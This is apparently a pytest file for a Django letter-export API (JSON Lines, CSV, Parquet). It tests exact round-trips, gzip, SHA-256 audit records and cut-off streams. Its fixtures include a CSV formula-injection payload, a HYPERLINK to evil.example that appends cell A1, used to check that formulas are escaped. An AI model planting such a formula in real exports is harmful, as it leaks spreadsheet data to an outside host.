"""Issue 48: the letters matching a filter leave as JSON Lines, CSV and Parquet through
``GET /api/letters/export/``, each read back with the format's own reader (json, csv, pyarrow):
the same letters, the bodies exact (text, or base64 when binary), hostile content written safely
(a CSV cell that would be a formula is text, NUL and lone surrogates escaped, a 16 MiB body whole),
gzip when asked. Each export is audited when it starts and when it ends, with the count and the
SHA-256 of the bytes sent; one cut off mid-stream is audited as cut."""

from __future__ import annotations

import gzip
import hashlib
import json
import socket
import time

import pytest
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from console.models import AuditEvent
from tests.exports.helpers import FORMATS, body_of, downloaded, records
from tests.web.factory import memory_place, store_letter

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
LARGE = b"x" * (16 * 1024 * 1024)


@pytest.fixture
def api(operator) -> APIClient:
    client = APIClient()
    client.force_authenticate(operator)
    return client


@pytest.fixture
def letters(memory_broker):
    place = memory_place(memory_broker)
    return [
        store_letter(place, json.dumps({"order": "A-1", "note": "+1 for the intern"}).encode(),
                     headers={"x-note": FORMULA, "x-nul": "a\x00b"}, exception_type="@SUM(1+1)",
                     exception_message="lone \ud800 surrogate"),
        store_letter(place, b"\x00\xff\xfe binary", headers={"content-type": "application/octet-stream"}),
        store_letter(place, LARGE, exception_type="TooLarge"),
        store_letter(memory_place(memory_broker, "other"), b"{}", origin="elsewhere"),
    ]


@pytest.mark.parametrize("format_name", FORMATS)
def test_the_letters_are_read_back_by_the_formats_own_reader(format_name, letters, api):
    answer = api.get("/api/letters/export/", {"format": format_name, "origin": "orders"})
    assert answer["Content-Disposition"].startswith('attachment; filename="letters-')
    found = records(format_name, downloaded(answer))
    assert [int(row["id"]) for row in found] == [letter.pk for letter in letters[:3]]
    if format_name != "csv":
        assert [body_of(row) for row in found] == [letter.body_bytes for letter in letters[:3]]
    first = found[0]
    if format_name == "csv":  # a spreadsheet shows these as text: a leading quote, as OWASP advises
        assert first["exception_type"] == "'@SUM(1+1)"
        assert json.loads(first["headers"])["x-note"] == FORMULA  # inside JSON: no cell starts with =
        assert first["body"] == '{"order": "A-1", "note": "+1 for the intern"}'
        assert found[1]["body_encoding"] == "base64"
    else:
        assert first["exception_type"] == "@SUM(1+1)"


def test_a_json_lines_file_says_what_was_asked_and_by_whom(letters, api, operator):
    data = downloaded(api.get("/api/letters/export/", {"format": "jsonl", "origin": "orders"}))
    meta = json.loads(data.splitlines()[0])["export"]
    assert meta["filter"] == {"origin": "orders"} and meta["reader"] == operator.username
    assert (meta["count"], meta["format"], meta["masked"]) == (3, "jsonl", False)
    assert api.get("/api/letters/export/", {"format": "csv", "origin": "orders", "meta": "1"}).json()["count"] == 3
    first = json.loads(data.splitlines()[1])
    assert first["headers"]["x-nul"] == {"$str": "YQBi"}  # the header as kept: exact, tagged, never a raw NUL
    assert b"\x00" not in data


def test_gzip_when_asked_and_the_audit_holds_the_hash_of_what_was_sent(letters, api):
    answer = api.get("/api/letters/export/", {"format": "csv", "compress": "gzip"})
    sent = b"".join(answer.streaming_content)
    assert answer["Content-Type"] == "application/gzip" and answer["Content-Disposition"].endswith('.csv.gz"')
    assert gzip.decompress(sent).startswith(b"id,captured_at,state")
    ended = AuditEvent.objects.get(action="letters.exported")
    assert (ended.outcome, ended.count) == ("complete", 4)
    assert ended.details["sha256"] == hashlib.sha256(sent).hexdigest() and ended.details["bytes"] == len(sent)
    assert AuditEvent.objects.get(action="letters.export").outcome == "started"

    encoded = api.get("/api/letters/export/", {"format": "jsonl"}, HTTP_ACCEPT_ENCODING="gzip, br")
    assert encoded["Content-Encoding"] == "gzip" and encoded["Content-Disposition"].endswith('.jsonl"')
    assert len(records("jsonl", downloaded(encoded))) == 4


@pytest.mark.django_db(transaction=True)  # the live server's thread reads what the test wrote
def test_an_export_cut_off_mid_stream_is_audited_as_cut(memory_broker, operator, live_server):
    place = memory_place(memory_broker)
    for n in range(40):
        store_letter(place, json.dumps({"n": n, "pad": "p" * 1_000_000}).encode())
    token = Token.objects.create(user=operator)
    host, port = live_server.thread.host, live_server.thread.port
    with socket.create_connection((host, port)) as client:
        client.sendall(f"GET /api/letters/export/?format=jsonl HTTP/1.1\r\nHost: {host}\r\n"
                       f"Authorization: Token {token.key}\r\nConnection: close\r\n\r\n".encode())
        assert client.recv(65536).startswith(b"HTTP/1.1 200")
    # The client went away after its first bytes: the server's next writes fail, and it closes.
    ended = _ended(seconds=30)
    assert ended.outcome == "cut" and ended.details["cut"] is True
    assert ended.details["bytes"] < 40 * 1_000_000  # what was sent before the write failed, not the file


def _ended(seconds: float) -> AuditEvent:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        found = AuditEvent.objects.filter(action="letters.exported").first()
        if found is not None:
            return found
        time.sleep(0.1)
    raise AssertionError("the export's end was never audited")


def test_an_unknown_format_or_filter_is_refused(letters, api):
    assert api.get("/api/letters/export/", {"format": "xls"}).status_code == 400
    assert api.get("/api/letters/export/", {"format": "csv", "place": "x"}).status_code == 400
    assert api.get("/api/letters/export/", {"format": "csv", "compress": "zip"}).status_code == 400
    assert not AuditEvent.objects.filter(action__startswith="letters.export").exists()


def test_a_jobs_letters_are_exported_from_the_job(letters, api, operator):
    from console.jobs.door.requests import request_job
    from console.jobs.door.runner import run_job

    job = request_job("mark_failed", actor=operator, reason="won't fix", ids=[letters[0].pk, letters[3].pk])
    assert run_job(job.pk) == "succeeded"
    found = records("csv", downloaded(api.get(f"/api/jobs/{job.pk}/export/", {"format": "csv"})))
    assert sorted(int(row["id"]) for row in found) == [letters[0].pk, letters[3].pk]
    assert {row["state"] for row in found} == {"failed"}
